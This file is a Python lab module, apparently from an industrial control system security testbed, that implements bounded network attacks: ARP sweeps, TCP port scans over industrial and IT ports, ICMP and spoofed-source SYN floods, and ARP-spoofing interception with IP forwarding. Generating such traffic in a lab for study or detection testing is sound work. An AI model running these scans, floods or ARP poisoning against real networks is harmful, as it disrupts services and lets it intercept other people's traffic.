"""Bounded network attacks inside the lab: sweeps, scans, floods, spoofing. Call them in the attacker's namespace."""

from __future__ import annotations

import errno
import select
import socket
import time
from collections.abc import Sequence
from pathlib import Path

from compose.plant import frames
from compose.plant.addresses import HOSTS, ip, mac
from compose.plant.frames import ARP_REPLY, ARP_REQUEST, BROADCAST, ETHERTYPE_ARP, ETHERTYPE_IPV4, SYN

NO_MAC = "00:00:00:00:00:00"
SPOOFED = "10.9.1.67"  # an address that nobody has: answers to it open half a connection only
KNOWN_PORTS = (
    21,
    22,
    23,
    25,
    53,
    80,
    102,
    111,
    135,
    139,
    161,
    389,
    443,
    445,
    502,
    554,
    623,
    789,
    873,
    1089,
    1433,
    1521,
)
MORE_PORTS = (
    1883,
    1911,
    1962,
    2222,
    2404,
    3306,
    3389,
    4840,
    4911,
    5007,
    5432,
    5900,
    8000,
    8080,
    8443,
    9600,
    20000,
    44818,
)


def arp_sweep(sender: str, first: int = 1, last: int = 100, pause: float = 0.02) -> None:
    """Ask who has 10.9.1.first to 10.9.1.last."""
    asked = [f"10.9.1.{number}" for number in range(first, last + 1) if f"10.9.1.{number}" != ip(sender)]
    packets = [frames.arp(ARP_REQUEST, (mac(sender), ip(sender)), (NO_MAC, target)) for target in asked]
    frames.send_frames([frames.ethernet(mac(sender), BROADCAST, ETHERTYPE_ARP, packet) for packet in packets], pause)


def connect_scan(
    targets: Sequence[tuple[str, int]], pause: float = 0.02, patience: float = 0.3
) -> list[tuple[str, int]]:
    """Try to connect to (address, port) pairs, as `nmap -sT` does; return those that are open."""
    waiting: dict[socket.socket, tuple[str, int]] = {}
    for target in targets:
        link = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        link.setblocking(False)
        link.connect_ex(target)
        waiting[link] = target
        time.sleep(pause)
    time.sleep(patience)
    _, ready, _ = select.select([], list(waiting), [], 0)
    opened = [waiting[link] for link in ready if link.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0]
    for link in waiting:
        link.close()
    return opened


def port_scan(target: str) -> list[tuple[str, int]]:
    """Try 40 well-known ports of one host."""
    return connect_scan([(ip(target), port) for port in KNOWN_PORTS + MORE_PORTS])


def sweep(port: int, targets: Sequence[str]) -> list[tuple[str, int]]:
    """Try one port on many hosts."""
    return connect_scan([(ip(target), port) for target in targets], 0.1)


def icmp_echo(sender: str, targets: Sequence[str], count: int, pause: float) -> None:
    """Send `count` echo requests to each target in turn."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as raw:
        for number in range(count):
            for target in targets:
                packet = frames.echo_request(ip(sender), ip(target), number)
                raw.sendto(packet[20:], (ip(target), 0))
                time.sleep(pause)


def learn_mac(target: str) -> None:
    """Let the kernel resolve a neighbour, so that raw frames follow ordinary ones."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.sendto(b"", (ip(target), 9))


def syn_flood(target: str, port: int, count: int, pause: float) -> None:
    """Send SYN segments from an address that never answers; the attacker answers ARP for it."""
    announce = frames.arp(ARP_REPLY, (mac("att"), SPOOFED), (mac(target), ip(target)))
    with frames.packet_socket() as raw:
        for number in range(count):
            if number % 50 == 0:
                raw.send(frames.ethernet(mac("att"), mac(target), ETHERTYPE_ARP, announce))
            segment = frames.tcp((SPOOFED, 20000 + number), (ip(target), port), SYN, 1000003 * number & 0xFFFFFFFF)
            raw.send(frames.ethernet(mac("att"), mac(target), ETHERTYPE_IPV4, segment))
            time.sleep(pause)


def answer_arp_for(address: str, seconds: float) -> None:
    """Answer ARP requests for an address that no host has, for a while."""
    end = time.monotonic() + seconds
    with frames.packet_socket(ethertype=ETHERTYPE_ARP) as raw:
        raw.settimeout(0.2)
        while time.monotonic() < end:
            try:
                frame = raw.recv(2048)
            except TimeoutError:
                continue
            except OSError as error:
                if error.errno == errno.ENETDOWN:
                    return
                raise
            if frame[20:22] == b"\x00\x01" and frame[38:42] == socket.inet_aton(address):
                asker = (frame[22:28].hex(":"), socket.inet_ntoa(frame[28:32]))
                reply = frames.arp(ARP_REPLY, (mac("att"), address), asker)
                raw.send(frames.ethernet(mac("att"), asker[0], ETHERTYPE_ARP, reply))


def arp_spoof(victims: tuple[str, str], times: int, pause: float, liar: str = "att") -> None:
    """Tell each victim that the other one's address has the MAC of `liar`, again and again; relay what comes."""
    Path("/proc/sys/net/ipv4/ip_forward").write_text("1")
    Path("/proc/sys/net/ipv4/conf/all/send_redirects").write_text("0")
    Path("/proc/sys/net/ipv4/conf/eth0/send_redirects").write_text("0")
    lies = []
    for told, claimed in (victims, victims[::-1]):
        packet = frames.arp(ARP_REPLY, (mac(liar), ip(claimed)), (mac(told), ip(told)))
        lies.append(frames.ethernet(mac(liar), mac(told), ETHERTYPE_ARP, packet))
    frames.send_frames(lies * times, pause)


def arp_restore(victims: tuple[str, str], liar: str = "att") -> None:
    """Tell the truth again."""
    truths = []
    for told, claimed in (victims, victims[::-1]):
        packet = frames.arp(ARP_REPLY, (mac(claimed), ip(claimed)), (mac(told), ip(told)))
        truths.append(frames.ethernet(mac(liar), mac(told), ETHERTYPE_ARP, packet))
    frames.send_frames(truths * 2, 0.05)


def control_hosts() -> list[str]:
    """Names of the hosts on the control network, the strangers left out."""
    own = (host for host in HOSTS.values() if host.ip.startswith("10.9.1."))
    return [host.name for host in own if host.name not in ("att", "vend")]
